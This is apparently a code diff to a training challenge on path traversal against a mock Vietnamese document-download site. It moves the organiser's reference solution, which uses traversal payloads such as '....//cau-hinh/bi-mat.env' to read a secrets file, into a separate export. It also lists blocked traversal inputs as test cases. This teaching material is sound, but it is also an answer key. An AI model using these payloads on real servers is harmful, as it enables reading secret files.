@@ -1,5 +1,5 @@
 import { createSite, esc, html, page, text } from '../http.ts';
-import { seen, type ChallengeModule, type FixCase } from '../types.ts';
+import { seen, type ChallengeModule, type ChallengeSolution, type FixCase } from '../types.ts';
 
 const HOST = 'tailieu.dh-phuongnam.test';
 const ROOT = '/srv/tailieu/';
@@ -63,15 +63,8 @@ export const pathTraversal: ChallengeModule = {
       },
     } }]);
   },
-  async solve(c) {
-    const first = await c.get(`http://${HOST}/tai-ve?tep=${encodeURIComponent('../cau-hinh/bi-mat.env')}`);
-    return seen(first, await c.get(`http://${HOST}/tai-ve?tep=${encodeURIComponent('....//cau-hinh/bi-mat.env')}`));
-  },
-  async naive(c) {
-    return seen(await c.get(`http://${HOST}/tai-ve?tep=${encodeURIComponent('../cau-hinh/bi-mat.env')}`), await c.get(`http://${HOST}/tai-ve?tep=${encodeURIComponent('/srv/cau-hinh/bi-mat.env')}`));
-  },
   fix: {
-    fn: 'resolveDownload', language: 'javascript', vulnerable: VULNERABLE, reference: REFERENCE,
+    fn: 'resolveDownload', language: 'javascript', vulnerable: VULNERABLE,
     cases: [
       blocked('....//cau-hinh/bi-mat.env', 'Chặn ....//', 'Block ....//'),
       blocked('lop/../../cau-hinh/bi-mat.env', 'Chặn ../ ở giữa đường dẫn', 'Block ../ in the middle'),
@@ -79,4 +72,16 @@ export const pathTraversal: ChallengeModule = {
       serves('de-cuong.txt'), serves('lop/on-tap.txt'),
     ],
   },
+};
+
+/** The organiser's reference solution and a beginner's naive attempt (never bundled into the player's page). */
+export const pathTraversalSolution: ChallengeSolution = {
+  async solve(c) {
+    const first = await c.get(`http://${HOST}/tai-ve?tep=${encodeURIComponent('../cau-hinh/bi-mat.env')}`);
+    return seen(first, await c.get(`http://${HOST}/tai-ve?tep=${encodeURIComponent('....//cau-hinh/bi-mat.env')}`));
+  },
+  async naive(c) {
+    return seen(await c.get(`http://${HOST}/tai-ve?tep=${encodeURIComponent('../cau-hinh/bi-mat.env')}`), await c.get(`http://${HOST}/tai-ve?tep=${encodeURIComponent('/srv/cau-hinh/bi-mat.env')}`));
+  },
+  reference: REFERENCE,
 };
